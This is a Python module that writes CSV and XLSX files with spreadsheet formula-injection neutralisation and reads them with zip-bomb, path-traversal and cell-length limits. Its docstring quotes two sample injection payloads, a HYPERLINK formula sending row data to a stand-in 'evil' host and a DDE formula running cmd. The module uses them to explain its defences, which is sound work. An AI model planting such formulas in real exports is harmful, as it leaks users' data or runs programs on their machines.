"""Writing CSV and XLSX that a spreadsheet opens safely, and reading XLSX and CSV with bounded memory.

Writing. Text written into a report comes from residents, imported files and users (ticket text, addresses,
names). A spreadsheet reads a cell starting with `=`, `+`, `-` or `@` (or a tab or CR before one) as a formula:
`=HYPERLINK("http://evil/?"&A2,"详情")` sends the row away when clicked, `=cmd|' /c calc'!A0` runs a program
through DDE. So every CSV and XLSX gridmap writes goes through this module:

* CSV (`csv_bytes`): such text is prefixed with `'` (`safe_cell`), which spreadsheets show as text and never
  evaluate (OWASP's advice for CSV injection); headings too.
* XLSX (`xlsx_bytes`): text is always written as a string cell (openpyxl would otherwise store text starting with
  `=` as a formula), unchanged, with the cell's quotePrefix set when it starts like a formula so that editing the
  cell in Excel keeps it text. Characters XML cannot hold are replaced by U+FFFD.

Numbers stay numbers: -3 is a number, not text to neutralise; "-3" (text) is prefixed.

Reading (`read_xlsx_rows`, `read_csv_rows`). A 12345 export or a planner's table is checked as it is read:
an XLSX is a zip, whose member names, sizes and compression ratios are checked (`check_archive`) before any XML
is parsed; cells are streamed and no cell longer than `max_cell` characters is ever held as a string: such a
cell comes back as a `TooLong` (its length), for the caller to decide about the row. The number of rows and
columns is bounded too.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import math
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import IO, Any, NoReturn, TypeVar
from xml.parsers import expat

import numpy as np
import pandas as pd

from gridmap.errors import InvalidInput, field_zh

FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")  # with the full-width ＝ ＋ － ＠
XLSX_MAX_CELL = 32_767  # characters Excel keeps in one cell
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]|[\ud800-\udfff]")


T = TypeVar("T")


NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet could read this text as a formula (leading spaces are skipped by some). A plain
    number written as text (`-3`, `+2.5`, `-1e3`, as a CSV read as text holds it) is a number to a spreadsheet,
    not a formula, and is left as it is."""
    stripped = text.lstrip(" \u3000")
    return bool(stripped) and stripped[0] in FORMULA_START and not NUMBER.fullmatch(stripped)


def safe_cell(value: T) -> T | str:
    """A value for a CSV cell: text that a spreadsheet would read as a formula gets a leading `'`; everything
    else (numbers too, negative ones included) is returned as it is."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with `safe_cell` applied to its headings and to every text cell (numeric columns are
    left alone)."""
    out = frame.copy()
    for column in out.columns:
        dtype = out[column].dtype
        if (
            pd.api.types.is_object_dtype(dtype)
            or isinstance(dtype, (pd.StringDtype, pd.CategoricalDtype))
            or pd.api.types.is_string_dtype(dtype)
        ):
            out[column] = out[column].astype(object).map(safe_cell)
    out.columns = [safe_cell(str(c)) for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame, *, float_format: str | None = None, encoding: str = "utf-8-sig") -> bytes:
    """The frame as CSV (UTF-8 with a BOM, so that Excel reads Chinese), formula-looking text neutralised."""
    return safe_frame(frame).to_csv(index=False, float_format=float_format).encode(encoding)


def write_csv(frame: pd.DataFrame, path: str | Path, **kwargs: Any) -> None:
    with open(path, "wb") as f:
        f.write(csv_bytes(frame, **kwargs))


def put(cell: Any, value: object) -> None:  # an openpyxl cell
    """Write one value into an openpyxl cell: text always as a string (never a formula), numbers as numbers,
    missing values as an empty cell."""
    if value is None or value is pd.NaT or value is pd.NA:
        return
    if isinstance(value, (bool, np.bool_)):
        cell.value = bool(value)
    elif isinstance(value, (int, np.integer)):
        cell.value = int(value)
    elif isinstance(value, (float, np.floating)):
        if math.isfinite(value):
            cell.value = float(value)
    elif isinstance(value, (pd.Timestamp, dt.datetime)):
        value = value.to_pydatetime() if isinstance(value, pd.Timestamp) else value
        if value.tzinfo is None:
            cell.value = value
        else:  # Excel has no time zones: the text says which one
            _put_text(cell, value.isoformat())
    elif isinstance(value, (dt.date, dt.time)):
        cell.value = value
    else:
        _put_text(cell, value if isinstance(value, str) else str(value))


def _put_text(cell: Any, text: str) -> None:
    text = _ILLEGAL_XML.sub("\ufffd", text)
    if len(text) > XLSX_MAX_CELL:
        text = text[: XLSX_MAX_CELL - 1] + "…"
    cell.value = text
    cell.data_type = "s"  # openpyxl makes text starting with = a formula; this cell is text, always
    if looks_like_formula(text):
        cell.quotePrefix = True


def xlsx_bytes(frame: pd.DataFrame, sheet_name: str, *, after: Callable[[Any], None] | None = None) -> bytes:
    """The frame as an XLSX workbook of one sheet (headings bold in row 1), every cell written by `put`;
    `after(sheet)` may format the sheet (widths, number formats, frozen panes) before it is saved."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    sheet = book.worksheets[0]  # a new workbook has one sheet
    sheet.title = sheet_name
    bold = Font(bold=True)
    for j, heading in enumerate(frame.columns, start=1):
        cell = sheet.cell(row=1, column=j)
        put(cell, str(heading))
        cell.font = bold
    for i, row in enumerate(frame.itertuples(index=False, name=None), start=2):
        for j, value in enumerate(row, start=1):
            if value is not None and not (isinstance(value, float) and math.isnan(value)):
                put(sheet.cell(row=i, column=j), value)
    if after is not None:
        after(sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# ---------------------------------------------------------------------------------------------------- reading

MAX_MEMBERS = 10_000
MAX_UNCOMPRESSED = 200 * 1024 * 1024  # all members together, once unpacked (reliability table: 200 MB)
MAX_RATIO = 100  # unpacked / packed, for members over RATIO_FROM bytes and in all
RATIO_FROM = 1024 * 1024
MAX_COLUMNS = 256
MAX_CELL = 4000  # the longest field a case has (description); longer cells come back as TooLong
MAX_LINE = 1024 * 1024  # a CSV line (physical) longer than this refuses the file


@dataclass(frozen=True)
class TooLong:
    """A cell longer than the reader's limit, in place of its text (which was never held)."""

    length: int

    def __str__(self) -> str:  # never the text: only how long it was
        return f"({self.length:,} characters)"


def _unsafe_name(name: str) -> bool:
    parts = name.replace("\\", "/").split("/")
    return (
        name.startswith(("/", "\\"))
        or re.match(r"^[A-Za-z]:", name) is not None
        or ".." in parts
        or "\x00" in name
        or len(name) > 255
    )


def check_archive(
    archive: zipfile.ZipFile,
    label: str,
    *,
    field: str = "file",
    max_uncompressed: int = MAX_UNCOMPRESSED,
    max_ratio: float = MAX_RATIO,
) -> None:
    """Refuse a zip whose member names are unsafe (absolute, `..`, drive letters, links), that is encrypted,
    has too many members, or unpacks to too much (in all, or by a ratio that only a zip bomb has)."""
    infos = archive.infolist()
    if len(infos) > MAX_MEMBERS:
        raise InvalidInput(
            f"{field}: {label} holds {len(infos):,} files; at most {MAX_MEMBERS:,} (archive_too_large)",
            field=field,
            zh=f"{field_zh(field)}：{label} 含 {len(infos):,} 个文件，最多 {MAX_MEMBERS:,} 个。",
        )
    total = packed = 0
    for info in infos:
        kind = (info.external_attr >> 16) & 0o170000
        if _unsafe_name(info.filename) or kind == 0o120000:
            shown = info.filename[:60].encode("unicode_escape").decode("ascii")
            raise InvalidInput(
                f"{field}: {label} holds an unsafe member name {shown!r} (absolute, '..' or a "
                "link); unsafe_archive_member",
                field=field,
                zh=f"{field_zh(field)}：{label} 含不安全的成员名 {shown!r}（绝对路径、“..”或链接）。",
            )
        if info.flag_bits & 0x1:
            raise InvalidInput(
                f"{field}: {label} is encrypted; save it without a password",
                field=field,
                zh=f"{field_zh(field)}：{label} 已加密，请另存为不带密码的文件。",
            )
        total += info.file_size
        packed += info.compress_size
        if info.file_size > RATIO_FROM and info.file_size > max_ratio * max(info.compress_size, 1):
            raise InvalidInput(
                f"{field}: {label} member {info.filename[:60]!r} unpacks {info.file_size:,} bytes "
                f"from {info.compress_size:,} (more than {max_ratio:.0f} times); archive_too_large",
                field=field,
                zh=f"{field_zh(field)}：{label} 的成员 {info.filename[:60]!r} 由 "
                f"{info.compress_size:,} 字节解压为 {info.file_size:,} 字节（超过 {max_ratio:.0f} "
                "倍），不予处理。",
            )
    if total > max_uncompressed:
        raise InvalidInput(
            f"{field}: {label} unpacks to {total:,} bytes; at most {max_uncompressed:,} "
            "(archive_too_large); split the file",
            field=field,
            zh=f"{field_zh(field)}：{label} 解压后 {total:,} 字节，最多 {max_uncompressed:,} 字节；请拆分文件。",
        )
    if total > RATIO_FROM and total > max_ratio * max(packed, 1):
        raise InvalidInput(
            f"{field}: {label} unpacks {total:,} bytes from {packed:,} (more than {max_ratio:.0f} "
            "times); archive_too_large",
            field=field,
            zh=f"{field_zh(field)}：{label} 由 {packed:,} 字节解压为 {total:,} 字节（超过 "
            f"{max_ratio:.0f} 倍），不予处理。",
        )


MARK = "\ue000gridmap-too-long:"  # a private-use marker that stands for a too-long text in a rewritten XLSX


class _XmlFilter:
    """Copies one XML member event by event (expat, chunk by chunk), replacing every text longer than `limit`
    characters by `MARK` and its length. Memory stays bounded by the limit and the chunk size whatever the text
    length. DTDs are refused (no entity expansion)."""

    def __init__(self, out: IO[bytes], limit: int):
        self.out = out
        self.limit = limit
        self.pieces: list[str] = []
        self.count = 0
        self.longest = 0
        p = expat.ParserCreate()
        p.buffer_text = True
        p.buffer_size = 1 << 16
        p.ordered_attributes = True
        p.StartElementHandler = self.start
        p.EndElementHandler = self.end
        p.CharacterDataHandler = self.text
        p.StartDoctypeDeclHandler = self.refuse
        p.EntityDeclHandler = self.refuse
        p.XmlDeclHandler = lambda *a: None
        self.parser = p
        out.write(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n')

    @staticmethod
    def refuse(*_: object) -> NoReturn:
        raise ValueError("a DTD or entity declaration")

    def flush(self) -> None:
        if self.count > self.limit:
            self.out.write(f"{MARK}{self.count}".encode())
        elif self.pieces:
            self.out.write(_escape("".join(self.pieces)).encode("utf-8"))
        self.longest = max(self.longest, self.count)
        self.pieces, self.count = [], 0

    def start(self, name: str, attrs: list[str]) -> None:
        self.flush()
        parts = [f"<{name}"]
        for k, v in zip(attrs[::2], attrs[1::2]):
            parts.append(f' {k}="{_escape(v, True)}"')
        parts.append(">")
        self.out.write("".join(parts).encode("utf-8"))

    def end(self, name: str) -> None:
        self.flush()
        self.out.write(f"</{name}>".encode())

    def text(self, data: str) -> None:
        self.count += len(data)
        if self.count <= self.limit:
            self.pieces.append(data)
        elif self.pieces:
            self.pieces = []

    def feed(self, stream: IO[bytes]) -> None:
        while True:
            chunk = stream.read(1 << 16)
            self.parser.Parse(chunk, not chunk)
            if not chunk:
                break


def _escape(text: str, attribute: bool = False) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    if attribute:
        text = text.replace('"', "&quot;").replace("\n", "&#10;").replace("\r", "&#13;").replace("\t", "&#9;")
    elif "\r" in text:
        text = text.replace("\r", "&#13;")
    return text


def _longest_run(stream: IO[bytes], limit: int) -> bool:
    """True when the member has a run of more than `limit` bytes without a `<` (a text that may be too long);
    a fast byte scan that decides whether the member needs the (slower) filter."""
    carry = 0
    while True:
        chunk = stream.read(1 << 20)
        if not chunk:
            return False
        first = chunk.find(b"<")
        if first < 0:
            carry += len(chunk)
            if carry > limit:
                return True
            continue
        if carry + first > limit:
            return True
        runs = chunk[first:].split(b"<")
        if max(map(len, runs)) > limit:
            return True
        carry = len(runs[-1])
        if carry > limit:
            return True


def _safe_workbook(data: bytes, label: str, max_cell: int) -> io.BytesIO:
    """The XLSX checked (`check_archive`); when some XML text may be longer than `max_cell`, a copy whose shared
    strings and sheets have such texts replaced by a marker."""
    try:
        archive = zipfile.ZipFile(io.BytesIO(data))
    except zipfile.BadZipFile:
        raise InvalidInput(
            f"file: {label} is not an XLSX workbook (not a zip archive)",
            field="file",
            zh=f"文件：{label} 不是 XLSX 工作簿（不是 zip 压缩包）。",
        ) from None
    with archive:
        check_archive(archive, label)
        xml_members = [i for i in archive.infolist() if i.filename.endswith(".xml") and i.filename.startswith("xl/")]
        suspicious = set()
        for info in xml_members:
            with archive.open(info) as stream:
                if _longest_run(stream, max_cell):
                    suspicious.add(info.filename)
        if not suspicious:
            return io.BytesIO(data)
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
            for info in archive.infolist():
                if info.filename in suspicious:
                    with archive.open(info) as stream, copy.open(info.filename, "w", force_zip64=True) as target:
                        try:
                            _XmlFilter(target, max_cell).feed(stream)
                        except (expat.ExpatError, ValueError) as exc:
                            raise InvalidInput(
                                f"file: {label} member {info.filename} is not well-formed XML ({str(exc)[:80]})",
                                field="file",
                                zh=f"文件：{label} 的成员 {info.filename} 不是有效的 XML。",
                            ) from None
                else:
                    copy.writestr(info, archive.read(info))
        out.seek(0)
        return out


def _cell(value: object, max_cell: int) -> object:
    if isinstance(value, str):
        if value.startswith(MARK):
            return TooLong(int(value[len(MARK) :]))
        if len(value) > max_cell:  # an XML text under the byte scan's limit cannot get here; kept for safety
            return TooLong(len(value))
    return value


def read_xlsx_rows(
    data: bytes, *, label: str = "the workbook", max_rows: int, max_cell: int = MAX_CELL, max_columns: int = MAX_COLUMNS
) -> tuple[list[Any], list[tuple[int, list[Any]]]]:
    """(headings, rows) of the first sheet, each row as (its row number in the sheet, its values); values as
    openpyxl reads them (text, numbers, datetimes, None), too-long cells as `TooLong`; blank rows left out.
    Refuses (InvalidInput, field `file`) a workbook that is not one, a zip bomb, unsafe member names, more than
    `max_rows` data rows."""
    from openpyxl import load_workbook

    source = _safe_workbook(data, label, max_cell)
    try:
        book = load_workbook(source, read_only=True, data_only=True)
    except InvalidInput:
        raise
    except Exception as exc:  # noqa: BLE001 - any parser failure is the file's fault
        raise InvalidInput(
            f"file: {label} cannot be read as XLSX ({type(exc).__name__}: {str(exc)[:120]})",
            field="file",
            zh=f"文件：{label} 无法按 XLSX 读取。",
        ) from None
    try:
        sheet = book.worksheets[0] if book.worksheets else None
        if sheet is None:
            raise InvalidInput(f"file: {label} has no worksheet", field="file", zh=f"文件：{label} 没有工作表。")
        headings: list[Any] = []
        rows: list[tuple[int, list[Any]]] = []
        for number, cells in enumerate(sheet.iter_rows(max_col=max_columns, values_only=True), start=1):
            values = [_cell(v, max_cell) for v in cells]
            while values and values[-1] is None:  # read_only rows are padded to max_col
                values.pop()
            if not headings:
                if not values:
                    continue  # blank lines above the headings
                headings = values
                continue
            if not values:
                continue
            if len(rows) >= max_rows:
                raise InvalidInput(
                    f"file: more than {max_rows:,} rows; at most {max_rows:,} per import, split the export",
                    field="file",
                    zh=f"文件超过 {max_rows:,} 行；每次最多导入 {max_rows:,} 行，请拆分导出文件。",
                )
            rows.append((number, values))
    except InvalidInput:
        raise
    except Exception as exc:  # noqa: BLE001
        raise InvalidInput(
            f"file: {label} cannot be read as XLSX ({type(exc).__name__}: {str(exc)[:120]})",
            field="file",
            zh=f"文件：{label} 无法按 XLSX 读取。",
        ) from None
    finally:
        book.close()
    width = max([len(headings)] + [len(r) for _, r in rows]) if headings else 0
    headings = list(headings) + [None] * (width - len(headings))
    return headings, [(n, list(r) + [None] * (width - len(r))) for n, r in rows]


class _Lines:
    """Physical lines of a text stream, each at most `limit` characters (a longer one refuses the file)."""

    def __init__(self, stream: IO[str], limit: int, label: str):
        self.stream, self.limit, self.label, self.number = stream, limit, label, 0

    def __iter__(self) -> _Lines:
        return self

    def __next__(self) -> str:
        line = self.stream.readline(self.limit + 1)
        if not line:
            raise StopIteration
        self.number += 1
        if len(line) > self.limit:
            raise InvalidInput(
                f"file: {self.label} line {self.number:,} is longer than {self.limit:,} characters; not a table export",
                field="file",
                zh=f"文件：{self.label} 第 {self.number:,} 行超过 {self.limit:,} 个字符，不是表格导出文件。",
            )
        return line


def read_csv_rows(
    data: bytes,
    *,
    label: str = "the file",
    max_rows: int,
    max_cell: int = MAX_CELL,
    max_columns: int = MAX_COLUMNS,
    encodings: tuple[str, ...] = ("utf-8-sig", "gb18030"),
) -> tuple[list[Any], list[tuple[int, list[Any]]]]:
    """(headings, rows) of a CSV in the first of `encodings` that decodes it, each row as (its record number,
    the headings being 1 and blank lines counted, as a spreadsheet shows them; its values), every cell as text,
    too-long cells as `TooLong`, blank rows left out.
    Read line by line: no line longer than `MAX_LINE` is ever held, and a field over the csv module's limit
    (131,072 characters) refuses the file, naming the line."""
    for encoding in encodings:
        try:
            return _read_csv(data, encoding, label, max_rows, max_cell, max_columns)
        except UnicodeDecodeError:
            continue
    raise InvalidInput(
        f"file: {label} is not text in {' or '.join(e.upper() for e in encodings)}",
        field="file",
        zh=f"文件：{label} 不是 {'或'.join(e.upper() for e in encodings)} 编码的文字。",
    )


def _read_csv(
    data: bytes, encoding: str, label: str, max_rows: int, max_cell: int, max_columns: int
) -> tuple[list[Any], list[tuple[int, list[Any]]]]:
    codecs.lookup(encoding)
    stream = io.TextIOWrapper(io.BytesIO(data), encoding=encoding, errors="strict", newline="")
    lines = _Lines(stream, MAX_LINE, label)
    reader = csv.reader(lines)
    headings: list[Any] = []
    rows: list[tuple[int, list[Any]]] = []
    number = 0
    try:
        for fields in reader:
            if headings:
                number += 1
            values: list[Any] = [TooLong(len(v)) if len(v) > max_cell else v for v in fields[:max_columns]]
            if not headings:
                if not any(values):
                    continue
                headings = values
                number = 1
                continue
            if not any(v for v in values if not isinstance(v, str) or v.strip()):
                continue
            if len(rows) >= max_rows:
                raise InvalidInput(
                    f"file: more than {max_rows:,} rows; at most {max_rows:,} per import, split the export",
                    field="file",
                    zh=f"文件超过 {max_rows:,} 行；每次最多导入 {max_rows:,} 行，请拆分导出文件。",
                )
            rows.append((number, values))
    except csv.Error as exc:
        raise InvalidInput(
            f"file: {label} line {lines.number:,} cannot be read as CSV ({str(exc)[:80]})",
            field="file",
            zh=f"文件：{label} 第 {lines.number:,} 行无法按 CSV 读取。",
        ) from None
    width = max([len(headings)] + [len(r) for _, r in rows]) if headings else 0
    headings = list(headings) + [""] * (width - len(headings))
    return headings, [(n, list(r) + [""] * (width - len(r))) for n, r in rows]
